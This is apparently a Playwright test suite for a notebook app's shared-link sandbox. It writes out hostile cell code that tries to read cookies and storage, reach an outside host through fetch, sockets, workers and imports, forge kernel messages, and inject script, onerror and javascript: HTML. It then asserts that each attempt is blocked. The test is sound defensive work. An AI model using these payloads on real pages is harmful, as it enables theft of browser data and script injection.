import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, describe, test } from "node:test";
import { chromium, type Browser, type Page } from "playwright-core";
import { encodeCells } from "../../../../src/workbook/book/browser/live/shareLink";
import { browserOptions, skipWithoutBrowser as skip } from "../../../lowrank/plot/browser";
import { buildLiveBook, cellAt, ends, openPage } from "../livePages";
import { code, markdown, notebook } from "../sampleNotebooks";
import { folderAddress, serveFolder } from "./browserBook";
import { holds } from "../../../holds";

const harmless = 'console.log("harmless");';
const content = notebook(markdown("# Shared"), { ...code(harmless), id: "shared" });

/**
 * What somebody else's cell tries: each attempt ends in "no: …" with the browser's reason, or in what
 * it got. Types would stop it, so it hides from them.
 */
function attack(elsewhere: string, own: string): string {
  const attempts = `
    const native = Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch ?? WorkerGlobalScope.prototype.fetch;
    const heard = (make, good) => new Promise((resolve, reject) => {
      const it = make(); it.onerror = (event) => { event.preventDefault(); reject(new Error("refused")); }; it[good] = () => resolve("open");
    });
    const inWorker = (script) => heard(() => new Worker(URL.createObjectURL(new Blob([script]))), "onmessage");
    const tries = {
      cookie: () => document.cookie,
      cookieStore: () => cookieStore.getAll(),
      localStorage: () => localStorage.length,
      indexedDB: () => heard(() => indexedDB.open("kept"), "onsuccess"),
      caches: () => caches.keys(),
      files: () => navigator.storage.getDirectory(),
      fetch: () => native.call(self, "${elsewhere}fetch", { mode: "no-cors" }),
      fetchOwn: () => native.call(self, "${own}index.html"),
      xhr: () => heard(() => { const it = new XMLHttpRequest(); it.open("GET", "${elsewhere}xhr"); it.send(); return it; }, "onload"),
      socket: () => heard(() => new WebSocket("${elsewhere.replace("http", "ws")}socket"), "onopen"),
      events: () => heard(() => new EventSource("${elsewhere}events"), "onopen"),
      importScripts: () => importScripts("${elsewhere}script.js"),
      importOwn: () => importScripts("${own}assets/book.js"),
      module: () => import("${elsewhere}module.js"),
      font: () => new FontFace("x", "url(${elsewhere}font)").load(),
      innerFetch: () => inWorker('fetch("${elsewhere}inner", { mode: "no-cors" }).then(() => postMessage(0), (e) => setTimeout(() => { throw e; }))'),
      remoteWorker: () => heard(() => new Worker("${elsewhere}worker.js"), "onmessage"),
      parent: () => parent.document.title,
      top: () => { top.location = "${elsewhere}top"; return "gone"; },
      navigate: () => { location.href = "${elsewhere}page"; if (!location.href.includes("page")) throw new Error("stays"); },
      open: () => open("${elsewhere}open"),
    };
    const late = new Promise((resolve, reject) => setTimeout(reject, 3000, new Error("no answer")));
    late.catch(() => 0);
    const ends = await Promise.all(Object.entries(tries).map(async ([name, make]) => {
      try { return [name, "GOT " + String(await Promise.race([(async () => make())(), late]))]; }
      catch (error) { return [name, "no: " + (error && error.name)]; }
    }));
    // The page's own channel, in the kernel's name.
    const forge = (type, content, parent) => postMessage({ kind: "publish", type, content, metadata: {}, parent });
    const html = '<img src="x" onerror="window.taken = 1"><script>window.taken = 1</' + 'script><iframe srcdoc="<script>parent.taken=1</' + 'script>"></iframe><a href="javascript:taken=1">a</a>';
    for (const parent of [undefined, {}, { msg_id: "constructor" }, 7])
      forge("display_data", { data: { "text/html": html }, metadata: {} }, parent);
    postMessage({ kind: "need", names: ["../../index.html", "__proto__", "toString"] });
    postMessage({ kind: "reply", to: "nobody", content: { status: "ok" } });
    postMessage({ kind: "facts", request: 99, facts: "none" });
    new BroadcastChannel("book").postMessage("taken");
    return { ends: Object.fromEntries(ends), html };`;
  return [
    `const done = await (0, eval)(${JSON.stringify(`(async () => {${attempts}})()`)});`,
    'const told = await fetch("https://example.org/a.csv").catch(({ message }: Error) => message);',
    'console.log(JSON.stringify({ told, origin: (0, eval)("self.origin"), ...done.ends }));',
    'const shown = { [Symbol.for("Jupyter.display")]: () => ({ "text/html": done.html }) };',
    "shown",
  ].join("\n");
}

/** A cell whose figure names addresses wherever Plotly takes some. */
function figureAttack(elsewhere: string): string {
  const picture = { x: 0, y: 1, sizex: 1, sizey: 1, xref: "paper", yref: "paper" };
  const style = `mask-image:url(${elsewhere}mask);cursor:url(${elsewhere}cursor),auto`;
  const figures = [
    {
      data: [{ x: [1, 2], y: [1, 2], type: "scatter" }],
      layout: {
        images: [{ ...picture, source: `${elsewhere}image` }],
        annotations: [{ text: `<span style="${style}">words</span>`, x: 1, y: 1 }],
        title: { text: `<span style="${style}">title</span>` },
      },
    },
    {
      data: [
        { type: "choropleth", geojson: `${elsewhere}geojson`, locations: ["a"], z: [1] },
        { type: "image", source: `${elsewhere}trace` },
      ],
    },
    {
      data: [{ type: "scattermap", lat: [1], lon: [1] }],
      layout: { map: { style: `${elsewhere}style`, layers: [{ source: `${elsewhere}layer` }] } },
    },
  ];
  const shown = `(figure: object) => ({ [Symbol.for("Jupyter.display")]: () => ({ "application/vnd.plotly.v1+json": figure }) })`;
  return [
    'import { show } from "lowrank";',
    `const figures: object[] = ${JSON.stringify(figures)};`,
    `for (const figure of figures) show((${shown})(figure) as never);`,
  ].join("\n");
}

describe("a link with somebody else's cells", { skip, timeout: 120_000 }, () => {
  let browser: Browser;
  let folder: string;
  let book: Awaited<ReturnType<typeof serveFolder>>;
  let elsewhere: { address: string; server: Server };
  const asked: string[] = [];

  before(async () => {
    ({ book: folder } = await buildLiveBook(content, { live: true }));
    book = await serveFolder(folder);
    const server = createServer((request, response) => {
      asked.push(request.url ?? "");
      response.writeHead(200, { "access-control-allow-origin": "*" }).end("1");
    });
    server.on("upgrade", ({ url }, socket) => (asked.push(url ?? ""), socket.destroy()));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const { port } = server.address() as AddressInfo;
    elsewhere = { address: `http://127.0.0.1:${port}/`, server };
    browser = await chromium.launch(browserOptions());
  });
  after(async () => {
    await browser.close();
    book.server.close();
    elsewhere.server.close();
  });

  /** Opens a link with a cell, takes the cell in, and runs it. */
  async function runShared(base: string, text: string): Promise<Page> {
    const hash = await encodeCells([{ id: "shared", original: harmless, text }]);
    const { page } = await openPage(browser, `${base}01-try.html${hash}`);
    page.setDefaultTimeout(60_000);
    await page.evaluate(async () => {
      const scope = window as unknown as Record<string, unknown>;
      if (location.protocol !== "file:") document.cookie = "secret=1";
      localStorage.setItem("secret", "1");
      if (location.protocol !== "file:") await caches.open("secret");
      new BroadcastChannel("book").onmessage = () => (scope.taken = 1);
    });
    // The page goes live by itself: its reader is to see what the link brings.
    await page.getByRole("button", { name: /^Put them in/ }).click();
    await cellAt(page, "shared").locator(".run").click();
    return page;
  }

  for (const place of ["a web server", "a folder"] as const)
    test(`from ${place} they run, and reach neither the book's storage nor any address`, async () => {
      const base = place === "a folder" ? folderAddress(folder) : book.address;
      asked.length = 0;
      const page = await runShared(base, attack(elsewhere.address, base));
      const before = page.url().replace(/#.*/, "");
      await ends(page, "shared", "ok");
      const outputs = cellAt(page, "shared").locator(".outputs");
      const printed = await outputs.locator("pre").first().innerText();
      const { told, origin, ...got } = JSON.parse(printed) as Record<string, string>;
      assert.equal(origin, "null", "the origin is nobody's");
      assert.match(
        told,
        /cannot fetch https:\/\/example\.org\/a\.csv: a cell that runs in the browser has no network/,
      );
      assert.equal(Object.keys(got).length, 21);
      for (const [name, end] of Object.entries(got)) assert.match(end, /^no: /, name);
      await page.waitForTimeout(500);
      assert.deepEqual(asked, [], "no other address was asked");
      assert.equal(page.url().replace(/#.*/, ""), before);
      assert.equal(await page.evaluate("window.taken"), undefined);
      await holds(async () =>
        assert.equal(
          await outputs.locator("script, iframe, [onerror], [href^=javascript]").count(),
          0,
        ),
      );
      await holds(async () =>
        assert.equal(await page.evaluate("localStorage.getItem('secret')"), "1"),
      );
    });

  for (const place of ["a web server", "a folder"] as const)
    test(`from ${place} their figures ask no address for pictures and maps`, async () => {
      asked.length = 0;
      const base = place === "a folder" ? folderAddress(folder) : book.address;
      const page = await runShared(base, figureAttack(elsewhere.address));
      await ends(page, "shared", "ok");
      const figures = cellAt(page, "shared").locator("figure.figure");
      await holds(async () => assert.equal(await figures.count(), 3));
      await figures.first().locator("svg.main-svg").first().waitFor();
      const words = await figures.first().getByText("words").boundingBox();
      if (words) await page.mouse.move(words.x + 3, words.y + 3);
      await figures.last().scrollIntoViewIfNeeded();
      await page.waitForTimeout(1_500);
      assert.deepEqual(asked, []);
    });

  test("a worker that sends what no kernel sends is ended, and the page says so", async () => {
    const forged =
      '(0, eval)("postMessage(null)");\nawait new Promise((end) => setTimeout(end, 60_000));';
    const page = await runShared(book.address, forged);
    await ends(page, "shared", "died");
    await holds(async () =>
      assert.match(
        await page.locator(".live-notice").last().innerText(),
        /sent what no kernel sends/,
      ),
    );
  });
});
